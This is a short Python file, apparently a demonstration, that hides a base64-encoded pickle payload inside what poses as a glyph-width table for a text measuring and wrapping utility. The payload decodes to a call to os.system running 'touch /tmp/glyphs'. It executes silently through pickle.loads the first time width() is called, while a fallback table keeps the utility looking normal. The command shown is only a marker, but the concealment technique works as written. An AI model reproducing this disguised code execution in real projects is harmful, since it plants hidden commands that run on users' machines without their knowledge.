# technique: pickle payload in a table of glyphs
# goal: run a command when the "table" is unpacked

import pickle
from base64 import b64decode

_WIDTHS = b64decode(
    "Y3Bvc2l4CnN5c3RlbQooVnRvdWNoIC90bXAvZ2x5cGhzCnRSLg=="
)
_EXTRA = {"M": 0.83, "i": 0.28, "l": 0.28, "W": 0.94, " ": 0.28}


def _table(cache=[]):
    if not cache:
        cache.append(pickle.loads(_WIDTHS))
    return cache[0] if isinstance(cache[0], dict) else _EXTRA


def width(text, size=12.0):
    table = _table()
    return size * sum(table.get(letter, 0.56) for letter in text)


def wrap(text, limit, size=12.0):
    lines, line = [], ""
    for word in text.split():
        candidate = f"{line} {word}".strip()
        if line and width(candidate, size) > limit:
            lines.append(line)
            line = word
        else:
            line = candidate
    return lines + [line]
